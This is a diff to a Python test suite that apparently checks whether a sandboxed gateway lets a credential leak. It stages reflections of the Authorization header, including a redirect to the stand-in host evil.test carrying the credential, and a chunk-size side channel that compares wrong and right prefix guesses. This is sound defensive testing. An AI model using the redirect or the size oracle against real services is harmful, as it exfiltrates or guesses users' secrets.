@@ -12,8 +12,8 @@ CHUNKED = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
 
 
 def sized(text, head="HTTP/1.1 200 OK\r\n"):
-    """An answer whose length nobody has to know: it ends with the connection."""
-    return f"{head}Connection: close\r\n\r\n{text}"
+    """An answer whose length nobody has to know: it ends with the connection. The line's end, because what the gateway holds back goes with a broken connection."""
+    return f"{head}Connection: close\r\n\r\n{text}\n"
 
 
 @attack("E02", conditions=("partial",), seconds=150, quick=True)
@@ -30,7 +30,7 @@ def reflected(t):
     places = {
         "the body": sized("before {auth} after"), "the body, as JSON": sized("{\"a\":{authjson}}"), "the body, percent-encoded": sized("x={authpct}&y"), "the body, as base64": sized("{auth64}"),
         "a field": "HTTP/1.1 200 OK\r\nX-Echo: {auth}\r\nContent-Length: 0\r\n\r\n", "Set-Cookie": "HTTP/1.1 200 OK\r\nSet-Cookie: a={authpct}\r\nContent-Length: 0\r\n\r\n",
-        "Location": "HTTP/1.1 302 Found\r\nLocation: https://evil.test/?h={authpct}\r\nContent-Length: 0\r\n\r\n", "an error page": "HTTP/1.1 400 Bad Request\r\nConnection: close\r\n\r\nbad request: Authorization: {auth}"}
+        "Location": "HTTP/1.1 302 Found\r\nLocation: https://evil.test/?h={authpct}\r\nContent-Length: 0\r\n\r\n", "an error page": "HTTP/1.1 400 Bad Request\r\nConnection: close\r\n\r\nbad request: Authorization: {auth}\n"}
     for where, answer in places.items():
         gate.control(f"shown in {where}: it is taken out", get("odd.secret.test", do(answer), sni="odd.secret.test"), stars)
     hidden = {
@@ -144,17 +144,17 @@ def oracles(t):
     world = t.world
     gate = Gate(t, world.sandbox(), threads=4)
     gate.control("the credential is put in", get("odd.secret.test", "/x", sni="odd.secret.test", headers="X: {m}\r\n"), lambda seen: world.secrets["a credential"] in str(seen.arrived))
-    wrong = ["CANARY-" + c * 8 for c in "0123456789abcdef"]
-    right = [world.secrets["a credential"][:n] for n in (8, 12, 16, 20, 24)]
+    wrong = [f"CANARY-{c * 17}" for c in "0123456789abcdef"]
+    right = [(world.secrets["a credential"][:n]).rjust(24, "x") for n in (8, 12, 16, 20, 24)]
     for guess in wrong + right:
-        gate.attempt(f"the guess {guess}", get("odd.secret.test", do(sized("{auth} " + guess), 0.4, " end\n"), sni="odd.secret.test", headers="X: {m}\r\nAccept-Encoding: gzip\r\n"),
+        answer = do("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n{auth} " + guess, 0.4, " end\n")
+        gate.attempt(f"the guess {guess}", get("odd.secret.test", answer, sni="odd.secret.test", headers="X: {m}\r\nAccept-Encoding: gzip\r\n"),
                      lambda seen: "content-encoding" in seen.out.lower() or any("gzip" in entry["headers"].get("Accept-Encoding", "") for entry in seen.arrived))
     seen = gate.go()
 
     def pieces(guess):
-        """The sizes of the chunks that the guest got, as if there were no guess in the first."""
-        sizes = [int(size, 16) for size in re.findall("\r\n([0-9a-f]+)\r\n", seen[f"the guess {guess}"].out)]
-        return (sizes[0] - len(guess), *sizes[1:]) if sizes else ()
-    t.control("all were answered in two pieces", all(len(pieces(guess)) >= 2 for guess in wrong + right), [pieces(guess) for guess in wrong + right])
+        """The sizes of the chunks that the guest got."""
+        return tuple(int(size, 16) for size in re.findall("\r\n([0-9a-f]+)\r\n", seen[f"the guess {guess}"].out))
+    t.control("all were answered", all(sum(pieces(guess)) > 50 for guess in wrong + right), [pieces(guess) for guess in wrong + right])
     usual, told = statistics.mode(map(pieces, wrong)), statistics.mode(map(pieces, right))
     t.attempt("the pieces of an answer tell a right guess", told != usual, f"{told}, others {usual}")
